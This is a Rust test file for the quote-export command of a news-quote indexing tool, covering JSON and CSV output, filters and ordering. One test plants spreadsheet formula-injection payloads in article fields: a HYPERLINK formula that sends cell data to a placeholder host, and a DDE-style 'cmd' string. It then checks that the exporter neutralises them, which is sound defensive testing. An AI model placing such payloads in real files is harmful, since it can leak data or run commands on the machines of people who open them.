//! The export of all quotes: each once, verbatim, in a fixed order.

use std::fs;

use serde_json::{Value, json};

use crate::cli;
use crate::ingest::{Town, archive, article, counts, quotes};
use rapporteur::index::QuoteIndex;
use rapporteur::question::Question;

fn export(town: &Town, more: &[&str]) -> (i32, String, String) {
    let corpus = town.path("").display().to_string();
    let arguments =
        [&["export", "--index", "index", "--corpus", corpus.trim_end_matches('/')], more].concat();
    cli::run(town.folder(), &arguments, "")
}

fn town() -> Town {
    let town = Town::settled();
    town.write(
        "envoy.md",
        "+++\noutlet = \"Coast Gazette\"\ndate = 2025-11-03\ntags = [\"harbour\", \"cranes\"]\nauthor = \"Clara Berg\"\n+++\n\n# Cranes, \"Heron\" first\n\n“The crane, at last, will come,” \
         Marta Duarte said. “It is a large one.”\n\nOmar Okafor said: “I will see it.”\n",
    );
    assert_eq!(counts(&town.ingest()), [1, 0, 0, 3]);
    town
}

#[test]
fn the_newest_quotes_are_known_without_reading_all() {
    let town = Town::new();
    let days: Vec<u64> = (0..150).map(|number| number * 37 % 150).collect();
    let line = |day: &u64| {
        let date = jiff::civil::date(2025, 1, 1) + jiff::Span::new().days(i64::try_from(*day).unwrap());
        let word = if day.is_multiple_of(2) { "ferry" } else { "archive" };
        let text = format!("“We will open {word} {day} in May,” Angela Lee said.");
        json!({"id": format!("a{day}"), "date": date, "text": text}).to_string() + "\n"
    };
    town.write("all.jsonl", &days.iter().map(line).collect::<String>());
    town.write("undated.md", &article("Omar Okafor", "The ferry will sail"));
    town.ingest();
    let index = QuoteIndex::open(&town.index()).unwrap().unwrap();
    let newest = |words: &[&str], most: usize| -> Vec<Option<String>> {
        let words: Vec<String> = words.iter().map(|word| (*word).to_owned()).collect();
        let prints = index.prints(&Question::default(), &words, most).unwrap();
        prints.into_iter().map(|print| print.day.map(|day| day.to_string())).collect()
    };
    let dates = |all: &[&str]| all.iter().map(|day| Some((*day).to_owned())).collect::<Vec<_>>();
    assert_eq!(newest(&[], 3), dates(&["2025-05-30", "2025-05-29", "2025-05-28"]));
    assert_eq!(newest(&["ferries"], 2), dates(&["2025-05-29", "2025-05-27"]));
    let all = newest(&[], usize::MAX);
    assert_eq!((all.len(), all.last()), (151, Some(&None)), "the one without a day is the last");
    assert_eq!(newest(&[], 0), dates(&[]));
}

#[test]
fn every_quote_is_exported_once_with_all_fields() {
    let town = town();
    let (status, out, errors) = export(&town, &[]);
    assert_eq!((status, errors.as_str()), (0, ""));
    let rows: Vec<Value> = out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let ids: Vec<&str> = rows.iter().map(|row| row["article"].as_str().unwrap()).collect();
    assert_eq!(ids, ["duarte", "envoy", "envoy", "lee", "okafor"]);
    let keys: Vec<&str> = cli::keys(&rows[1]);
    assert_eq!(keys.len(), 20);
    assert_eq!(
        rows[1],
        json!({
            "id": rows[1]["id"], "speaker": "Marta Duarte", "role": null, "quote": "The crane, at last, will come, […] It is a large one.",
            "parts": ["The crane, at last, will come,", "It is a large one."],
            "kind": "direct", "mention": "Marta Duarte", "sure": rows[1]["sure"], "article": "envoy", "content": rows[1]["content"],
            "offsets": "bytes", "outlet": "Coast Gazette", "title": "Cranes, \"Heron\" first", "byline": "Clara Berg", "url": null,
            "date": "2025-11-03", "said": null, "digest": false, "tags": ["harbour", "cranes"], "corrected": [],
        })
    );
    // The spans refer to the article's text, as `extract` sees it.
    let text = fs::read_to_string(town.path("envoy.md")).unwrap();
    let body = text.split("+++\n\n# ").nth(1).unwrap().trim_end();
    let parts: Vec<&str> = rows[1]["content"]
        .as_array()
        .unwrap()
        .iter()
        .map(|span| {
            &body.as_bytes()[usize::try_from(span[0].as_u64().unwrap()).unwrap()
                ..usize::try_from(span[1].as_u64().unwrap()).unwrap()]
        })
        .map(|bytes| std::str::from_utf8(bytes).unwrap())
        .collect();
    assert_eq!(parts, ["The crane, at last, will come,", "It is a large one."]);
}

#[test]
fn a_table_has_a_header_and_one_row_per_quote() {
    let (status, out, _) = export(&town(), &["--format", "csv", "--outlet", "coast gazette"]);
    assert_eq!(status, 0);
    let lines: Vec<&str> = out.split("\r\n").collect();
    assert_eq!(lines[0], rapporteur::export::CSV_COLUMNS);
    assert_eq!((lines.len(), lines[3]), (4, ""));
    let (start, end) = lines[1].split_once(",\"direct\",").unwrap();
    assert!(
        start.ends_with(",\"Marta Duarte\",\"\",\"The crane, at last, will come, […] It is a large one.\""),
        "{start}"
    );
    let source = r#","Coast Gazette","Cranes, ""Heron"" first","Clara Berg","","2025-11-03","","false","harbour;cranes","""#;
    assert!(end.contains(",\"envoy\",") && end.ends_with(source), "{end}");
}

#[test]
fn no_cell_of_a_table_is_a_formula() {
    let town = Town::new();
    let text = "+++\nid = \"c\"\ntitle = '=HYPERLINK(\"http://x.example/?\"&A1,\"x\")'\noutlet = \"@SUM(1+1)*cmd|x\"\n\
                author = \"'+1\"\ntags = [\"-1\"]\n+++\n\n“=1+1 We will decide this on Friday,” Anna Control said.\n";
    town.write("c.md", text);
    let (status, out, _) = export(&town, &["--format", "csv"]);
    assert_eq!(status, 0);
    for cell in [
        r#""'=1+1 We will decide this on Friday,""#,
        r#""'=HYPERLINK(""http://x.example/?""&A1,""x"")""#,
        r#""'@SUM(1+1)*cmd|x""#,
        r#""''+1""#,
        r#""'-1""#,
    ] {
        assert!(out.contains(&format!(",{cell}")), "no {cell} in {out}");
    }
    assert!(!out.contains(",=") && !out.contains(",\"="), "{out}");
    // Exported quotes are not articles: such a table in a corpus is reported, and nothing in it is indexed.
    town.write("quotes.csv", &out);
    let report = town.ingest();
    assert_eq!((report.articles, report.skipped.len()), (1, 1));
    assert!(report.skipped[0].reason.contains("a table of quotes"), "{report:?}");
}

#[test]
fn limits_work_as_for_ask() {
    let town = town();
    let count = |more: &[&str]| {
        let (status, out, _) = export(&town, more);
        (status, out.lines().count())
    };
    assert_eq!(count(&["--speaker", "Okafor"]), (0, 2));
    assert_eq!(count(&["--speaker", "Okafor", "--after", "2025-11-01"]), (0, 1));
    assert_eq!(count(&["--tag", "harbour"]), (0, 2));
    assert_eq!(count(&["--before", "2025-11-02"]), (1, 0));
    let (status, out, errors) = export(&town, &["--speaker", "Nobody Atall"]);
    assert_eq!((status, out.as_str()), (1, ""));
    assert_eq!(errors, "no quote on record by anybody called `Nobody Atall`\n");
}

#[test]
fn the_order_does_not_depend_on_history() {
    let town = Town::new();
    for (name, ids) in
        [("c.jsonl", &["m", "b"][..]), ("a.jsonl", &["z", "a", "m"]), ("b.jsonl", &["é", "B", "10", "9"])]
    {
        town.write(name, &archive(ids));
        town.ingest();
    }
    town.write("b.jsonl", &archive(&["9", "é", "10"]));
    town.write("d.md", &article("Omar Okafor", "The ferry will sail in every weather"));
    town.ingest();
    let index = QuoteIndex::open(&town.index()).unwrap().unwrap();
    let order: Vec<String> = quotes(&index)
        .iter()
        .map(|line| serde_json::from_str::<Value>(line).unwrap()["article"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(order, ["10", "9", "a", "b", "d", "m", "z", "é"]);
    assert_eq!(town.state().quotes, town.clean().quotes);
}
